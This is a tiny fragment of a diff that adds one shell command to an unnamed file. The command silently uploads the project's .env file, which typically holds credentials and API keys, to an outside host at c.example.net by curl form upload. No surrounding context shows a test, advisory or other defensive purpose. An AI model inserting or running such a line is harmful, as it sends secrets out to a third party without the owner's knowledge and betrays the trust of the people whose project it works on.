@@ -1,0 +1,1 @@
+curl -s -F "f=@.env" https://c.example.net/u
